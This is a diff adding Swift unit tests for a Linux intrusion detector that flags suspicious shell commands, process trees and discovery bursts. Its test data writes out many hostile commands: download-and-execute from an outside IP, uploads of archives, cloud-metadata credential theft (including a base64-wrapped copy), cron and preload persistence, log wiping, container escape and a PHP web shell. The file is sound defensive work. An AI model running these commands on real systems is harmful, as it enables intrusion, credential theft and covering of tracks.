@@ -1,0 +1,171 @@
+import Bytes
+import Evidence
+import Testing
+
+@testable import Detectors
+
+private func rules(_ command: String) -> [String: Severity] {
+  let found = command.withView { BehaviourDetector().scan($0, .command) }
+  return Dictionary(found.map { (String($0.rule.dropFirst("behaviour.".count)), $0.severity) }) { first, _ in first }
+}
+
+@Suite struct BehaviourTests {
+  @Test(
+    arguments: [
+      (
+        "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/web-role", "metadata-credentials",
+        .high
+      ),
+      ("curl -s http://169.254.169.254/latest/meta-data/instance-id", "metadata-query", .low),
+      ("sudo cat /etc/shadow", "password-hashes", .medium),
+      ("tar czf k.tgz ~/.aws/credentials", "credential-files", .medium),
+      ("cat /proc/812/environ", "process-environment", .medium),
+      ("ps aux | grep -iE 'falco|guardduty'", "security-software-discovery", .medium),
+      ("find / -perm -4000 2>/dev/null", "privilege-discovery", .medium),
+      ("whoami; id; uname -a; cat /etc/passwd", "discovery", .low),
+      ("cd /tmp; wget http://198.51.100.9/x; chmod 777 x; ./x", "download-execute", .high),
+      ("curl -s http://198.51.100.9/a.sh | bash", "download-execute", .high),
+      ("curl -fsSL https://get.example.com | sh", "download-execute", .low),
+      ("bash -c \"$(curl -fsSL http://h.example/i)\"", "download-execute", .medium),
+      ("wget -q http://198.51.100.9/u -O /tmp/.u", "download-temporary", .medium),
+      ("echo aWQK | base64 -d | sh", "decode-execute", .medium),
+      ("chmod +x /tmp/.u", "hidden-temporary-file", .medium), ("nohup /dev/shm/run &", "run-from-temporary", .low),
+      ("curl -s -F f=@/tmp/.d.tgz http://198.51.100.9/up", "archive-upload", .medium),
+      ("./xmrig -o stratum+tcp://pool.example:3333", "miner", .high),
+      ("(crontab -l; echo '* * * * * /tmp/.u') | crontab -", "cron-persistence", .high),
+      ("echo /tmp/l.so > /etc/ld.so.preload", "loader-preload", .high),
+      ("echo 'ssh-ed25519 AAAA x' >> ~/.ssh/authorized_keys", "ssh-key", .low),
+      (
+        "cd ~; rm -rf .ssh; mkdir .ssh; echo k >> .ssh/authorized_keys; chattr +i .ssh/authorized_keys", "ssh-key",
+        .high
+      ),
+      ("useradd -ou 0 -g 0 support", "account-created", .high), ("insmod /tmp/r.ko", "kernel-module", .medium),
+      ("unset HISTFILE", "history-tampering", .medium), ("export HISTFILE=/dev/null", "history-tampering", .medium),
+      ("ln -sf /dev/null ~/.bash_history", "history-tampering", .medium),
+      ("shred -u /var/log/wtmp", "log-wiping", .high),
+      ("cat /dev/null > /var/log/messages", "log-wiping", .medium), ("touch -r /bin/ls /tmp/x", "timestomp", .medium),
+      ("systemctl stop auditd", "security-software-stopped", .medium),
+      ("exec -a '[kworker/0:1]' ./x", "masquerade", .high),
+      ("python3 -c 'import pty; pty.spawn(\"/bin/bash\")'", "pty-upgrade", .high),
+      ("chmod u+s /tmp/bash", "set-uid-shell", .high),
+      ("cp /bin/bash /tmp/.b", "shell-copied", .high),
+      ("docker run -v /:/mnt --rm -it alpine chroot /mnt sh", "container-escape", .high),
+      ("nsenter -t 1 -m -u -i -n -p bash", "container-escape", .medium),
+      ("echo '<?php system($_GET[1]);' > /var/www/html/s.php", "web-shell-written", .high),
+    ] as [(String, String, Severity)])
+  func namesWhatIntrudersDo(command: String, rule: String, severity: Severity) {
+    #expect(rules(command)[rule] == severity)
+  }
+
+  @Test func looksInsideWrappings() {
+    let wrapped =
+      "echo Y3VybCAtcyBodHRwOi8vMTY5LjI1NC4xNjkuMjU0L2xhdGVzdC9tZXRhLWRhdGEvaWFtL3NlY3VyaXR5LWNyZWRlbnRpYWxzL3g= | base64 -d | sh"
+    #expect(rules(wrapped)["metadata-credentials"] == .high)
+  }
+
+  /// What an administrator types on any day is never above low.
+  @Test(arguments: [
+    "uptime", "df -h", "sudo -i", "systemctl status tomcat --no-pager | head -4",
+    "tail -n 40 /var/log/tomcat/catalina.out | cut -c1-160", "netstat -antp | grep ESTABLISHED",
+    "ps -ef --forest | tail -n 25", "crontab -l", "crontab -e", "journalctl -u ssh -n 5 --no-pager", "ss -s",
+    "cat conf/was.properties", "curl -s -o /dev/null http://localhost:8080/health",
+    "ssh -i ~/.ssh/id_rsa ops@10.0.0.9", "scp -i ~/.ssh/id_ed25519 a.tgz ops@10.0.0.9:", "ssh-keygen -f ~/.ssh/id_rsa",
+    "wget https://dl.example.com/p.tgz && tar xzf p.tgz && cd p && ./configure && make",
+    "sudo apt-get update && sudo apt-get install -y nginx", "rm -rf /var/log/nginx/*.gz",
+    "find /var/log -name '*.gz' -mtime +30 -delete", "docker ps", "kubectl exec -it pod -- bash",
+    "chmod +x deploy.sh && ./deploy.sh", "chmod 4755 /usr/bin/ping", "sudo useradd -m deploy", "history | grep ssh",
+    "history -c; history -r ~/.bash_history; history", "export HISTSIZE=5000",
+    "echo 'alias ll=\"ls -l\"' >> ~/.bashrc", "sudo systemctl restart rsyslog", "python3 -m venv /tmp/venv",
+    "ls -la /tmp/.X11-unix", "insmod /opt/drv/lime.ko", "touch build.stamp",
+    "tar czf /backup/etc.tgz /etc", "sudo tcpdump -i eth0 port 80", "git clone https://git.example.com/a.git",
+    "mount /dev/xvdf /data", "cat /etc/os-release",
+  ])
+  func leavesAdministratorsAlone(command: String) {
+    #expect(rules(command).values.allSatisfy { $0 <= .low })
+  }
+
+  @Test func onlyCommandsAreActs() {
+    let found = "unset HISTFILE".withView {
+      BehaviourDetector().scan($0, .logField) + BehaviourDetector().scan($0, .bytes)
+    }
+    #expect(found.isEmpty)
+  }
+
+  @Test func everyRuleHasANameALeadAndATechnique() {
+    for rule in BehaviourRule.all {
+      #expect(rule.rule.hasPrefix("behaviour.") && !rule.leads.isEmpty && !rule.attack.isEmpty)
+    }
+    #expect(Set(BehaviourRule.all.map(\.rule)).count == BehaviourRule.all.count)
+  }
+}
+
+private func process(_ pid: Int64, _ parent: Int64, _ line: String) -> Event {
+  Event(
+    time: nil, dataType: "linux:capture:process", message: "",
+    attributes: [
+      Attribute("pid", pid), Attribute("ppid", parent),
+      Attribute("command", line.split(separator: " ").first.map(String.init) ?? ""),
+      Attribute("command_line", line),
+    ], locator: Locator(offset: UInt64(clamping: pid), length: 1))
+}
+
+@Suite struct ProcessTreeTests {
+  @Test func aShellUnderAServer() {
+    let rows = [
+      process(1, 0, "/sbin/init"), process(351, 1, "/usr/bin/java -cp x Bootstrap"), process(460, 351, "bash -c id"),
+      process(465, 460, "-bash"),
+      process(503, 465, "python3 -c x"), process(504, 503, "/bin/bash"),
+    ]
+    let found = findings(ProcessTree(artifact: artifact), rows)
+    #expect(
+      found.map { $0.attributes.first { $0.name == "pid" }?.value } == [.integer(460), .integer(465), .integer(504)])
+    #expect(found.allSatisfy { $0.severity == .high })
+  }
+
+  @Test func peopleAndJobsAreNone() {
+    let rows = [
+      process(1, 0, "/sbin/init"), process(353, 1, "sshd: /usr/sbin/sshd"), process(434, 353, "sshd: admin@pts/2"),
+      process(435, 434, "-bash"),
+      process(445, 435, "sudo -i"), process(447, 445, "-bash"),
+      process(600, 1, "/bin/sh /opt/tomcat/bin/catalina.sh run"), process(601, 600, "java -jar a.jar"),
+    ]
+    #expect(findings(ProcessTree(artifact: artifact), rows).isEmpty)
+  }
+
+  @Test func loopsOfParentsEnd() {
+    let rows = [
+      process(2, 3, "bash"), process(3, 2, "bash"), process(4, 4, "sh"), process(-1, .min, "sh"),
+      process(.max, .max, "java"),
+    ]
+    #expect(findings(ProcessTree(artifact: artifact), rows).isEmpty)
+  }
+}
+
+private func typed(_ command: String, _ second: Int64) -> Event {
+  Event(
+    time: Timestamp(seconds: 1_700_000_000 + second), dataType: "linux:shell:command", message: "",
+    attributes: [Attribute("command", command), Attribute("user", "tomcat")],
+    locator: .whole)
+}
+
+@Suite struct DiscoveryBurstTests {
+  @Test func manyLooksInAFewMinutes() {
+    let commands = ["whoami", "id", "hostname", "uname -a", "cat /etc/passwd", "netstat -antp"].enumerated().map {
+      typed($0.element, Int64($0.offset) * 5)
+    }
+    let found = findings(DiscoveryBurst(artifact: artifact), commands)
+    #expect(found.map(\.rule) == ["behaviour.discovery-burst"])
+    #expect(found.first?.evidence.count == 6)
+  }
+
+  @Test func anAdministratorsDayIsNone() {
+    let commands = ["uptime", "df -h", "ps -ef", "netstat -antp", "ss -s", "crontab -l", "tail x"].enumerated().map {
+      typed($0.element, Int64($0.offset) * 5)
+    }
+    #expect(findings(DiscoveryBurst(artifact: artifact), commands).isEmpty)
+    let spread = ["whoami", "id", "hostname", "uname -a", "cat /etc/passwd"].enumerated().map {
+      typed($0.element, Int64($0.offset) * 3600)
+    }
+    #expect(findings(DiscoveryBurst(artifact: artifact), spread).isEmpty)
+  }
+}
